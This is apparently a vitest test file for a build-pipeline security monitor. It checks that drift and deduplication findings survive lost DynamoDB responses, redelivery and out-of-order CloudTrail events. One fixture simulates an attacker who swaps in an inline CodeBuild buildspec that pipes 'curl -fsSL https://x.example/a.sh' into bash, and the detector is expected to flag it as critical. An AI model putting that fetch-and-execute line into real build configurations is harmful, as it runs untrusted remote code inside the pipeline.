/**
 * At-least-once and out-of-order delivery through the real engine on dynalite, with a client that
 * loses responses after the write landed (issue #13: defects 1 and 3).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseConfig, type BuildwatchConfigInput } from '../../lambdas/config/config.js';
import { Engine, type Outcome } from '../../lambdas/engine/engine.js';
import { envelopeForCloudTrail, type EventBridgeEvent } from '../../lambdas/engine/events.js';
import { normaliseContent } from '../../lambdas/engine/normalise-input.js';
import { toPipelineEvent } from '../../lambdas/engine/pipeline-event.js';
import { route } from '../../lambdas/engine/router.js';
import { defineUseCase, type UseCase } from '../../lambdas/engine/use-case.js';
import { noLookups, type Lookups } from '../../lambdas/lookups/lookups.js';
import { createRecordedLookups } from '../../lambdas/lookups/recorded-lookups.js';
import { normaliseProject } from '../../lambdas/use-cases/build/codebuild.js';
import { FindingsStore } from '../../lambdas/store/findings-store.js';
import { StateStore } from '../../lambdas/store/state-store.js';
import { useCases } from '../../lambdas/use-cases/index.js';
import { useLocalDynamo } from '../support/local-dynamo.js';
import { failOnce, InjectedTimeout, withLostResponses, type FaultyClient } from '../support/lost-responses.js';

const dynamo = useLocalDynamo();
const CASES = join(import.meta.dirname, '..', '..', 'lambdas', 'use-cases');

async function faultyEngine(config: BuildwatchConfigInput = {}, lookups: Lookups = noLookups): Promise<{ engine: Engine; client: FaultyClient; findings: FindingsStore; state: StateStore }> {
  const { doc, tables } = await dynamo.freshStores();
  const client = withLostResponses(doc);
  const state = new StateStore(client.doc, tables.state);
  const findings = new FindingsStore(client.doc, tables.findings, { amendableDay: () => true });
  const engine = new Engine({ config: parseConfig(config), lookups, state, findings, clock: () => new Date('2026-11-01T00:00:00Z') });
  return { engine, client, findings, state };
}

function caseEvents(path: string, part: 'history' | 'events'): EventBridgeEvent[] {
  const spec = JSON.parse(readFileSync(join(CASES, path), 'utf8')) as Record<string, unknown[]>;
  const normalised = normaliseContent(path, JSON.stringify(spec[part] ?? []));
  expect(normalised.problems).toEqual([]);
  return normalised.events;
}

/** Every use case the event is routed to, as the detect Lambda does; the outcomes of all. */
async function deliver(engine: Engine, event: EventBridgeEvent): Promise<Outcome[]> {
  const outcomes: Outcome[] = [];
  for (const target of route(useCases, event)) outcomes.push(...(await engine.evaluate(target, toPipelineEvent(event))));
  return outcomes;
}

/** A write of a drift head (a put, or the conditional update that moves it forward). */
const isHeadWrite = (c: { name: string; input: Record<string, unknown> }) =>
  (c.name === 'PutCommand' && (c.input['Item'] as Record<string, unknown>)['sk'] === '#snapshot') || (c.name === 'UpdateCommand' && (c.input['Key'] as Record<string, unknown>)['sk'] === '#snapshot');

const created = (outcomes: readonly Outcome[], useCase?: string) =>
  outcomes.filter((o): o is Extract<Outcome, { status: 'finding' }> => o.status === 'finding' && o.created && (!useCase || o.finding.useCase === useCase));

describe('first-seen under lost responses (#13 defect 1)', () => {
  it('one-push-many-records: the negotiation record whose sighting write landed unanswered still alerts when retried', async () => {
    const { engine, client } = await faultyEngine();
    const path = 'source/new-pusher/cases/one-push-many-records.json';
    for (const event of caseEvents(path, 'history')) await deliver(engine, event);
    const events = caseEvents(path, 'events');
    const byId = (suffix: string) => events.find((e) => e.id.endsWith(suffix)) as EventBridgeEvent;
    const negotiation = byId('000000000013');
    const write = byId('000000000014');
    const native = byId('000000000001');

    client.plan = failOnce((c) => c.name === 'UpdateCommand' && String((c.input['Key'] as Record<string, unknown>)['sk']).startsWith('v#'), 'after');
    await expect(deliver(engine, negotiation)).rejects.toBeInstanceOf(InjectedTimeout);
    client.plan = () => 'none';

    const outcomes = [...(await deliver(engine, write)), ...(await deliver(engine, native)), ...(await deliver(engine, negotiation))];
    expect(created(outcomes, 'source.new-pusher')).toHaveLength(1);
    expect(created(outcomes, 'source.new-pusher')[0]?.finding.severity).toBe('high');
  });
});

const PROJECT = 'payments-service-build';
const SOURCE = { type: 'CODECOMMIT', location: 'https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/payments-service' };
const INLINE = 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -fsSL https://x.example/a.sh | bash\n';

function projectCall(eventName: 'CreateProject' | 'UpdateProject', eventID: string, eventTime: string, requestParameters: Record<string, unknown>, who = 'rui.costa'): EventBridgeEvent {
  return envelopeForCloudTrail({
    eventVersion: '1.10',
    userIdentity: { type: 'IAMUser', arn: `arn:aws:iam::111122223333:user/${who}`, accountId: '111122223333', userName: who },
    eventTime,
    eventSource: 'codebuild.amazonaws.com',
    eventName,
    awsRegion: 'eu-west-1',
    sourceIPAddress: '198.51.100.7',
    userAgent: 'aws-cli/2.15.0',
    requestParameters: { name: PROJECT, ...requestParameters },
    responseElements: null,
    eventID,
    readOnly: false,
    eventType: 'AwsApiCall',
    recipientAccountId: '111122223333',
  });
}

const create = projectCall('CreateProject', 'c-1', '2026-10-01T09:00:00Z', {
  source: { ...SOURCE, buildspec: 'buildspec.yml' },
  environment: { type: 'LINUX_CONTAINER', image: 'aws/codebuild/standard:6.0', computeType: 'BUILD_GENERAL1_SMALL' },
  serviceRole: 'arn:aws:iam::111122223333:role/payments-build',
  description: 'payments',
});
const benignEdit = projectCall('UpdateProject', 'u-1', '2026-10-20T09:00:00Z', { description: 'payments service build' });
const attack = projectCall('UpdateProject', 'u-2', '2026-10-24T01:08:21Z', { source: { ...SOURCE, buildspec: INLINE } }, 'svc-legacy-deploy');

describe('drift under redelivery and reordering (#13 defect 3)', () => {
  it('(a) a first-sight CreateProject delivered twice is a baseline both times', async () => {
    const { engine } = await faultyEngine();
    expect(created(await deliver(engine, create))).toEqual([]);
    expect(created(await deliver(engine, create))).toEqual([]);
    expect((await deliver(engine, create)).filter((o) => o.status === 'finding')).toEqual([]);
  });

  it('(a) also when the snapshot write landed and its answer was lost', async () => {
    const { engine, client } = await faultyEngine();
    client.plan = failOnce(isHeadWrite, 'after');
    await expect(deliver(engine, create)).rejects.toBeInstanceOf(InjectedTimeout);
    expect((await deliver(engine, create)).filter((o) => o.status === 'finding')).toEqual([]);
  });

  it('(b) an older update delivered after a newer one is judged against the state at its own time', async () => {
    const { engine, state } = await faultyEngine();
    await deliver(engine, create);
    const attackFindings = created(await deliver(engine, attack), 'build.project-drift');
    const lateFindings = (await deliver(engine, benignEdit)).filter((o) => o.status === 'finding');
    expect(attackFindings.map((o) => o.finding.severity)).toEqual(['critical']);
    expect(attackFindings[0]?.finding.summary).toContain('source.buildspec');
    // The benign edit changed the description only: an attestation, never the attacker's buildspec.
    expect(lateFindings.map((o) => o.status === 'finding' && [o.finding.severity, o.finding.mode])).toEqual([['info', 'attest']]);
    const late = lateFindings[0]?.status === 'finding' ? lateFindings[0].finding : undefined;
    expect((late?.evidence['diff'] as Array<{ path: string }>).map((entry) => entry.path)).toEqual(['description']);
    expect(late?.evidence['deliveredAfterNewerChange']).toBe('2026-10-24T01:08:21Z');
    // Newer state is kept; the late edit fills in only what nothing newer touched.
    const head = await state.getSnapshot('build.project-drift', `project/${PROJECT}`);
    expect(head).toMatchObject({ updatedAt: '2026-10-24T01:08:21Z' });
    expect(JSON.stringify(head?.state)).toContain('payments service build');
    expect((head?.state['source'] as Record<string, Record<string, unknown>>)['buildspec']?.['inline']).toBe(true);
  });

  it('(b) the attack delivered again after the late edit is still the same critical finding', async () => {
    const { engine } = await faultyEngine();
    const outcomes: Outcome[] = [];
    for (const e of [create, attack, benignEdit]) outcomes.push(...(await deliver(engine, e)));
    const again = await deliver(engine, attack);
    const original = created(outcomes, 'build.project-drift').find((o) => o.finding.severity === 'critical');
    const redelivered = again.find((o) => o.status === 'finding');
    expect(redelivered).toMatchObject({ status: 'finding', created: false, finding: { id: original?.finding.id, severity: 'critical' } });
  });

  it('(b) an update whose head write landed unanswered keeps its severity on retry', async () => {
    const { engine, client } = await faultyEngine();
    await deliver(engine, create);
    client.plan = failOnce(isHeadWrite, 'after');
    await expect(deliver(engine, attack)).rejects.toBeInstanceOf(InjectedTimeout);
    expect(created(await deliver(engine, attack), 'build.project-drift').map((o) => o.finding.severity)).toEqual(['critical']);
  });
});

/** Reports every CodeCommit DeleteBranch under one dedup key, with a one-hour dedup window. */
const branchProbe: UseCase = defineUseCase({
  metadata: {
    id: 'source.branch-probe',
    answers: 'source.protection-change',
    title: 'Probe for dedup-window tests',
    stage: 'source',
    description: 'Reports every branch deletion under one dedup key.',
    severity: 'medium',
    defaultMode: 'alert',
    riskReduction: 1,
    effort: 1,
    mitre: ['T1485'],
    falsePositives: ['none'],
    runbook: 'nothing to do, it is a probe',
    dedupWindowMinutes: 60,
  },
  pattern: { source: ['aws.codecommit'] },
  logic: { kind: 'match', evaluate: () => ({ summary: 'branch deleted', resource: 'payments-service', dedupKey: 'payments-service|branch' }) },
});

function branchDeleted(eventID: string, eventTime: string) {
  return toPipelineEvent(
    envelopeForCloudTrail({
      eventVersion: '1.09',
      eventTime,
      eventSource: 'codecommit.amazonaws.com',
      eventName: 'DeleteBranch',
      awsRegion: 'eu-west-1',
      eventID,
      eventType: 'AwsApiCall',
      recipientAccountId: '111122223333',
      userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/bob', accountId: '111122223333', userName: 'bob' },
      requestParameters: { repositoryName: 'payments-service' },
    }),
  );
}

describe('dedup windows under redelivery (#13 defect 3c)', () => {
  it('a redelivered older event does not reopen its window: repeats of the newer window stay folded', async () => {
    const { engine } = await faultyEngine();
    const first = branchDeleted('d-1', '2026-10-20T10:00:00Z');
    const newer = branchDeleted('d-2', '2026-10-20T11:30:00Z');
    expect(created(await engine.evaluate(branchProbe, first))).toHaveLength(1);
    const [opened] = created(await engine.evaluate(branchProbe, newer));
    expect(opened).toBeDefined();
    // The first event again (SQS redelivery, or a replay): the same finding, nothing reopened.
    expect(await engine.evaluate(branchProbe, first)).toEqual([expect.objectContaining({ status: 'finding', created: false })]);
    const repeat = await engine.evaluate(branchProbe, branchDeleted('d-3', '2026-10-20T11:40:00Z'));
    expect(repeat).toEqual([expect.objectContaining({ status: 'deduplicated', into: opened?.finding.id, counted: true })]);
  });
});

describe('dedup windows for late events (#13 defect 3c)', () => {
  it('a late repeat folds into the window of its own time; a redelivered repeat is never counted twice', async () => {
    const { engine, findings } = await faultyEngine();
    const [first] = created(await engine.evaluate(branchProbe, branchDeleted('w-1', '2026-10-20T10:00:00Z')));
    const repeat = branchDeleted('w-2', '2026-10-20T10:20:00Z');
    expect(await engine.evaluate(branchProbe, repeat)).toEqual([expect.objectContaining({ status: 'deduplicated', into: first?.finding.id, counted: true })]);
    expect(created(await engine.evaluate(branchProbe, branchDeleted('w-3', '2026-10-20T11:30:00Z')))).toHaveLength(1);
    // After the newer window opened: the repeat again, and a repeat never seen before, both of the first window.
    expect(await engine.evaluate(branchProbe, repeat)).toEqual([expect.objectContaining({ status: 'deduplicated', into: first?.finding.id, counted: false })]);
    expect(await engine.evaluate(branchProbe, branchDeleted('w-4', '2026-10-20T10:25:00Z'))).toEqual([expect.objectContaining({ status: 'deduplicated', into: first?.finding.id, counted: true })]);
    expect((await findings.get(first?.finding.id ?? ''))?.occurrences).toBe(3);
  });
});

describe('drift heads written before change logs existed', () => {
  it('a head without a change log is the state before the next event', async () => {
    const { engine, state } = await faultyEngine();
    // What the previous release left: a head only.
    await state.putSnapshot('build.project-drift', `project/${PROJECT}`, { state: { source: { type: 'CODECOMMIT', buildspec: { inline: false, sha256: 'sha256:000000000000', preview: 'buildspec.yml' } } }, version: 3, updatedAt: '2026-10-01T09:00:00Z', lastEventId: 'old' }, undefined);
    const findings = created(await deliver(engine, attack), 'build.project-drift');
    expect(findings.map((o) => o.finding.severity)).toEqual(['critical']);
  });
});

describe('the project state build.build-override reads (#14 defect 1)', () => {
  it('falls back on the drift head when the change log holds nothing at the build start (expired changes, or an older release)', async () => {
    const { engine, state } = await faultyEngine({ useCases: { 'build.build-override': { options: { nativeBuildGraceMinutes: 0 } } } }, createRecordedLookups(join(CASES, 'build/build-override/cases/recorded/before-image-bump')));
    const history = JSON.parse(readFileSync(join(CASES, 'build/build-override/cases/override-after-image-bump.json'), 'utf8')) as { history: Array<{ detail: { responseElements: { project: Record<string, unknown> } } }> };
    const project = structuredClone(history.history[0]!.detail.responseElements.project);
    (project['environment'] as Record<string, unknown>)['image'] = 'aws/codebuild/standard:7.0';
    await state.putSnapshot('build.project-drift', `project/${PROJECT}`, { state: normaliseProject(project), version: 1, updatedAt: '2026-10-20T08:00:00Z', lastEventId: 'bump' }, undefined);
    const [same] = caseEvents('build/build-override/cases/cloudformation-image-bump-then-build.json', 'events');
    const [foreign] = caseEvents('build/build-override/cases/override-after-image-bump.json', 'events');
    expect(created(await deliver(engine, same as EventBridgeEvent), 'build.build-override')).toEqual([]);
    const found = created(await deliver(engine, foreign as EventBridgeEvent), 'build.build-override');
    expect(found.map((o) => o.finding.summary)).toEqual([expect.stringContaining('(project: aws/codebuild/standard:7.0)')]);
  });
});
